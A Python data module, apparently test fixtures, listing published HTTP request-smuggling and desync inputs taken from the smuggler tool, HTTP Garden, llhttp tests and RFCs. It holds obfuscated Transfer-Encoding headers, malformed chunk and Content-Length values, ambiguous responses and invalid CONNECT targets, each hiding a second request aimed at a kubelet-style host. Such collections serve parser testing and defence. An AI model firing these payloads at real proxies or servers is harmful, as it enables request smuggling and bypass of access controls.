"""Published spellings of requests, responses and destinations that HTTP parsers misread, by source.

Each is rewritten from one of these publications:

- SMUGGLER: the mutations of ``configs/exhaustive.py`` of github.com/defparam/smuggler, after James
  Kettle's "HTTP Desync Attacks" (PortSwigger, 2019), one hidden Transfer-Encoding each;
- GARDEN: ``TROPHIES.md`` and ``README.md`` of github.com/narfindustries/http-garden;
- LLHTTP: ``test/request`` and ``test/response`` of github.com/nodejs/llhttp;
- RFC: RFC 9112 sections 2.2, 3.2, 6.1, 6.3, 7.1 and 11.2, RFC 9110 sections 5.5, 6.5, 7.6.1, 9.3.6
  and 10.1.1.
"""

from __future__ import annotations

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: edge-1:10250\r\n\r\n"
"""A request that is only ever the body of another request."""

CASES_OF_SMUGGLER = [
    " Transfer-Encoding: chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding\t:\tchunked",
    "Transfer Encoding: chunked", "Transfer_Encoding: chunked", "Transfer Encoding:chunked",
    "Transfer-Encoding : chunked", "Transfer-Encoding:  chunked", "Transfer-Encoding:\x0bchunked",
    "Transfer-Encoding: chunked, cow", "Transfer-Encoding: cow, chunked",
    "Content-Encoding: chunked", "Transfer-Encoding:\n chunked", 'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunk", "TrAnSFer-EnCODinG: cHuNkeD",
    "TRANSFER-ENCODING: CHUNKED", "Transfer-Encoding: chunked\r", "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", "Transfer\r-Encoding: chunked",
    "Transfer-Encoding: cow chunked bar", "Transfer-Encoding:\xffchunked",
    "Transfer-Encoding: ch\x96nked", "Transf\x82r-Encoding: chunked",
    "X:X\rTransfer-Encoding: chunked", "X:X\nTransfer-Encoding: chunked",
    *(
        template % character
        for character in [*map(chr, range(1, 0x20)), *map(chr, range(0x7F, 0x100))]
        for template in (
            "Transfer-Encoding:%schunked", "Transfer-Encoding%s: chunked",
            "%sTransfer-Encoding: chunked", "Transfer-Encoding: chunked%s",
        )
    ),
]  # fmt: skip


def _with_field(field: bytes) -> bytes:
    """Return a request whose body is empty for a parser that recognizes the hidden field."""
    body = b"0\r\n\r\n" + HIDDEN
    return b"POST /attack HTTP/1.1\r\n%b\r\nHost: edge-1:10250\r\nContent-Length: %d\r\n\r\n%b" % (
        field,
        len(body),
        body,
    )


def _post(*lines: bytes, body: bytes = HIDDEN) -> bytes:
    return b"\r\n".join([b"POST /attack HTTP/1.1", b"Host: edge-1:10250", *lines, b"", body])


def _chunked(body: bytes) -> bytes:
    return _post(b"Transfer-Encoding: chunked", body=body + HIDDEN)


SMUGGLER = [_with_field(field.encode("latin-1")) for field in CASES_OF_SMUGGLER]

GARDEN = [
    _chunked(b"0_2e\r\n\r\n"),
    _chunked(b"0x5\r\nhello\r\n0\r\n\r\n"),
    _chunked(b"Z\r\nZZ\r\nZZZ\r\n\r\n"),
    _chunked(b"2\r\r;a\r\n02\r\n41\r\n0\r\n\r\n"),
    _chunked(b"0\n\r\n"),
    _chunked(b"\r\n\r\n"),
    _chunked(b"1;a\n\r\nZ\r\n0\r\n\r\n"),
    _chunked(b"1\xa0\r\nZ\r\n0\r\n\r\n"),
    _chunked(b"-1\r\nZ\r\n0\r\n\r\n"),
    _chunked(b"ffffffffffffffff0\r\nZ\r\n0\r\n\r\n"),
    _chunked(b"5\r\nhello\rX0\r\n\r\n"),
    _post(b"Content-Length: +1_0"),
    _post(b"Content-Length: 0x10"),
    _post(b"Content-Length: "),
    _post(b"Content-Length: -0"),
    _post(b"Content-Length: 1, 1"),
    _post(b"Content-Length: 1\xa0"),
    _post(b"Content-Length : 34"),
    _post(b"Header: v\n\x00\ralue"),
    _post(b"Header: v\x00\ralue"),
    _post(b"Visible: :/\rSmuggled: :)"),
    _post(b": ignored"),
    _post(b"\xefoo: bar"),
    _post(b"Content-Length\x00: 5"),
    _post(b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + HIDDEN),
    _post(b"Transfer-Encoding: \xa0chunked\xa0", body=b"0\r\n\r\n" + HIDDEN),
    _post(b"Transfer-Encoding: ,chunked", body=b"0\r\n\r\n" + HIDDEN),
    b"GET / HTTP/1.1\r\n\tContent-Length: 1\r\n\r\nX" + HIDDEN,
    b"GET /attack HTTP/1.32\r\n\r\n" + HIDDEN,
    b'G=":<>(e),[T];?" /attack HTTP/1.1\r\n\r\n' + HIDDEN,
    b"GET ! HTTP/1.1\r\nHost: edge-1:10250\r\n\r\n" + HIDDEN,
    b"GET /attack\nHTTP/1.1\r\n\r\n" + HIDDEN,
    b"GET / HTTP/\r\r1.1\r\nHost: edge-1:10250\r\n\r\n" + HIDDEN,
    _chunked(b"0\r\n\r\n").replace(b"HTTP/1.1", b"HTTP/1.0", 1),
]  # fmt: skip

LLHTTP = [
    _post(b"Transfer-Encoding:", b"Content-Length: 5", body=b"hello" + HIDDEN),
    _post(b"Transfer-Encoding: pigeons"),
    _post(b"Transfer-Encoding: identity", b"Content-Length: 5", body=b"World" + HIDDEN),
    _post(b"Content-Length: 10", *[b"Transfer-Encoding:"] * 3, body=b"2\r\nAA\r\n0\r\n" + HIDDEN),
    _chunked(b"2 erfrferferf\r\naa\r\n0 rrrr\r\n\r\n"),
    _chunked(b"5;a=\"b\nhello\r\n0\r\n\r\n"),
    _post(b"Foo: 1\rBar: 2"),
    _post(b"x:x\nTransfer-Encoding: chunked", body=b"1\r\nA\r\n0\r\n\r\n" + HIDDEN),
    _post(b"x:\rTransfer-Encoding: chunked", body=b"1\r\nA\r\n0\r\n\r\n" + HIDDEN),
    _post(b"Connection: close", b"\rZGET /smuggled: HTTP/1.1"),
    _post(b"Fo@: Failure"),
    _post(b"Foo\x01\test: Bar"),
    _post(b"name", b" : value"),
    _post(b"Connection\r\x1b\x35\xd5eep-Alive"),
    _post(b"Foo: bar", b" Content-Length: 38"),
    _post(b"Dummy: x\nContent-Length: 23"),
    b"GET /attack ICE/1.0\r\nHost: a\r\n\r\n" + HIDDEN,
    b"GET /attack IHTTP/1.0\r\nHost: a\r\n\r\n" + HIDDEN,
    b"PUT /attack RTSP/1.0\r\nHost: a\r\n\r\n" + HIDDEN,
    b"ANNOUNCE /attack HTTP/1.0\r\nHost: a\r\n\r\n" + HIDDEN,
    b"MKCOLA /attack HTTP/1.1\r\n\r\n" + HIDDEN,
    b"GET /attack HTTP/5.6\r\n\r\n" + HIDDEN,
    b"GET /attack HTTP/1.1\r\n Host: foo\r\n\r\n" + HIDDEN,
    b"POST /attack HTTP/1.1\nTransfer-Encoding: chunked\n\n0\n\n" + HIDDEN,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
]  # fmt: skip

RFC = [
    _post(b"Content-Length: 5", b"Content-Length: 6", body=b"hello" + HIDDEN),
    _post(b"Content-Length: 5", b"Content-Length: 5", body=b"hello" + HIDDEN),
    _post(b"Content-Length: 5", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + HIDDEN),
    _post(b"Transfer-Encoding: gzip, chunked", body=b"0\r\n\r\n" + HIDDEN),
    _post(b"Transfer-Encoding: chunked, chunked", body=b"0\r\n\r\n" + HIDDEN),
    _post(b"Host: edge-2:10250"),
    b"GET /attack HTTP/1.1\r\n\r\n" + HIDDEN,
    b"GET http://edge-2:10250/attack HTTP/1.1\r\nHost: edge-1:10250\r\n\r\n" + HIDDEN,
    b"GET  /attack HTTP/1.1\r\nHost: edge-1:10250\r\n\r\n" + HIDDEN,
    b"GET /a ttack HTTP/1.1\r\nHost: edge-1:10250\r\n\r\n" + HIDDEN,
    b"GET /attack\r\n" + HIDDEN,
]  # fmt: skip


def _whole(*lines: bytes, target: bytes = b"/attack", version: bytes = b"HTTP/1.1") -> bytes:
    """Return a request whose body is the hidden request."""
    return b"\r\n".join(
        [
            b"POST %b %b" % (target, version),
            b"Host: edge-1:10250",
            *lines,
            b"Content-Length: %d" % len(HIDDEN),
            b"",
            HIDDEN,
        ]
    )


def _chunks(*chunks: bytes, field: bytes = b"Transfer-Encoding: chunked") -> bytes:
    """Return a request with a complete chunked body."""
    return _post(field, body=b"".join(chunks))


_CHUNK = b"%x\r\n%b\r\n" % (len(HIDDEN), HIDDEN)

ODD = {
    "rfc": [
        _whole(),
        b"\r\n" + _whole(),
        _whole(b"X-Empty:"),
        _whole(b"X-Space: \t a \t b \t "),
        _whole(b"X-Many: " + b"a, " * 500),
        _whole(b"Connection: host, content-length, x-forwarded-for"),
        _whole(b"Connection: transfer-encoding", b"TE: trailers, chunked;q=0.5"),
        _whole(b"Connection: X-Hop", b"X-Hop: 1"),
        _whole(b"Keep-Alive: timeout=1", b"Proxy-Connection: keep-alive"),
        _whole(b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMA"),
        _whole(b"Expect: 100-continue"),
        _whole(b"X-HTTP-Method-Override: CONNECT", b"X-Original-URL: /smuggled"),
        _whole(b"Forwarded: host=edge-2:10250", b"X-Forwarded-Host: edge-2:10250"),
        _whole(target=b"http://edge-1:10250/attack"),
        _whole(target=b"//edge-2:10250/attack"),
        _whole(target=b"/attack/../smuggled"),
        _whole(target=b"/attack%0d%0aHost:%20edge-2%0d%0a"),
        _whole(target=b"/attack%20HTTP/1.1%0d%0a%0d%0aGET%20/smuggled"),
        _whole(target=b"/attack?a=/smuggled&b=%00&c=[]{}|^`"),
        _whole(target=b"/attack;x=y//%2e%2e/%2f"),
        _whole(version=b"HTTP/1.0"),
        _whole(b"Connection: keep-alive", version=b"HTTP/1.0"),
        _chunks(_CHUNK, b"0\r\n\r\n"),
        _chunks(_CHUNK, b"000\r\n\r\n"),
        _chunks(b"5;a=b;c=\"d\"\r\nhello\r\n0;e\r\n\r\n"),
        _chunks(b"000000000005\r\nhello\r\n0\r\n\r\n"),
        _chunks(b"A\r\n0123456789\r\na\r\n0123456789\r\n0\r\n\r\n"),
        _chunks(b"5\r\n0\r\n\r\n\r\n0\r\n\r\n"),
        _chunks(_CHUNK, b"0\r\nX-Trailer: 1\r\nETag: \"a\"\r\n\r\n"),
        _chunks(_CHUNK, b"0\r\nCookie: a=b\r\nAuthorization: Bearer x\r\n\r\n"),
    ],
    "llhttp": [
        _chunks(b"5;ilovew3;somuchlove=aretheseparametersfor\r\nhello\r\n0\r\n\r\n"),
        _chunks(b"5;ilovew3=\"I \\\"love\\\"\"; x=y\r\nhello\r\n0\r\n\r\n"),
        _chunks(_CHUNK, b"0\r\n\r\n", field=b"TRANSFER-ENCODING: CHUNKED"),
        _chunks(_CHUNK, b"0\r\n\r\n", field=b"Transfer-Encoding: \t chunked \t"),
        _chunks(_CHUNK, b"0\r\nVary: *\r\nContent-Type: text/plain\r\n\r\n"),
        _whole(b"Content-Type: text/plain", b"Content-Encoding: chunked"),
        _whole(b"Accept: */*", b"Link: \xc3\xa4", b"X-SSL-Nonsense: -----BEGIN"),
        _whole(b"Connection:keep-alive,", b"X: x"),
        _whole(b"Connection: close, x-y-z"),
        _whole(target=b"/attack?test=search?q=x#hash"),
        _whole(target=b"/\xce\xb4\xc2\xb6/\xce\xb4t/pope?q=1"),
    ],
}  # fmt: skip
"""Unusual requests that the standard or a parser allows. If the hidden request is in one, it is the
body."""

REQUESTS = {"smuggler": SMUGGLER, "garden": GARDEN, "llhttp": LLHTTP, "rfc": RFC}

_OK = b"HTTP/1.1 200 OK\r\n"
_SECOND = b"HTTP/1.1 200 Smuggled\r\nContent-Length: 0\r\n\r\n"

RESPONSES = {
    "llhttp": [
        _OK + b"Transfer-Encoding: nothing\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: chunked, deflate\r\n\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: chunked\r\n\r\n2 erf\r\naa\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Content-Length: 0\r\nContent-Length: 5\r\n\r\n" + _SECOND,
        _OK + b"Content-Length: \r\n\r\n" + _SECOND,
        _OK + b"Foo: 1\rBar: 2\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b"Foo: 1\nBar: 2\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b" Foo: 1\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b"Foo : 1\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        b"HTTP/1.1 200 OK\nContent-Length: 0\n\n" + _SECOND,
        b"HTTP/1.1 200\rOK\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        b"HTTP/1.1 2 OK\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        b"HTTP/1.1 99999 OK\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        b"HTTP/5.6 200 OK\r\n\r\n" + _SECOND,
        b"IHTTP/1.1 200 OK\r\n\r\n" + _SECOND,
        b"ICE/1.0 200 OK\r\n\r\n" + _SECOND,
        b"HTTP/ 1.1 200 OK\r\n\r\n" + _SECOND,
        b"HTTP/01.1 200 OK\r\n\r\n" + _SECOND,
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n" + _SECOND,
        b"0HTTP/1.1 200 OK\r\n\r\n" + _SECOND,
    ],
    "garden": [
        _OK + b"Content-Length: +5\r\n\r\nhello" + _SECOND,
        _OK + b"Content-Length: 0x5\r\n\r\nhello" + _SECOND,
        _OK + b"Content-Length: 5_0\r\n\r\nhello" + _SECOND,
        _OK + b"Content-Length: 18446744073709551616\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\rX0\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: chunked\r\n\r\n0\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: \xa0chunked\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b"X: \x00\r\nContent-Length: 0\r\n\r\n" + _SECOND,
        _OK + b": empty\r\nContent-Length: 0\r\n\r\n" + _SECOND,
    ],
    "rfc": [
        b"HTTP/1.1 204 No Content\r\nContent-Length: 5\r\n\r\nhello" + _SECOND,
        b"HTTP/1.1 204 No Content\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SECOND,
        b"HTTP/1.1 103 Early Hints\r\nContent-Length: 5\r\n\r\nhello" + _SECOND,
        b"HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + _SECOND,
        _OK + b"Content-Length: 5, 5\r\n\r\nhello" + _SECOND,
    ],
}  # fmt: skip
"""Responses of a kubelet to a GET, each followed by a response to no request."""

DESTINATIONS = [
    b"edge-1", b"edge-1:", b"edge-1:0", b"edge-1:65536", b"edge-1:+80", b"edge-1:8_0",
    b"edge-1:0x50", b"edge-1: 80", b"edge-1 :80", b"edge-1:80/", b"edge-1:80/smuggled",
    b"edge-1:80?x", b"edge-1:80#x", b"edge-1:80:81", b":80", b"@edge-1:80", b"user@edge-1:80",
    b"edge-1@edge-2:80", b"http://edge-1:80", b"http://edge-1:80/", b"//edge-1:80", b"/edge-1:80",
    b"*", b"edge-1\\:80", b"edge-1%00:80", b"edge-1%0d%0aX:80", b"edge-1\x00:80", b"edge-1\t:80",
    b"edge-1\x0b:80", b"edge-1\xa0:80", b"edge-1:\xb2\xb3", b"edge_\xff:80", b"[edge-1]:80",
    b"[::1", b"::1:80", b"[::1]80", b"[::1]]:80", b"[[::1]]:80", b"[::1%25eth0]:80",
    b"[1.2.3.4]:80",
    b"[::ffff:1.2.3.4.5]:80", b"edge-1,edge-2:80", b"edge-1;edge-2:80", b"edge-1:80,edge-2:80",
    b"edge-1:80 edge-2:80", b"edge-1:80\tHTTP/1.1",
]  # fmt: skip
"""Invalid targets of CONNECT: GARDEN and LLHTTP for the characters, RFC for the form."""
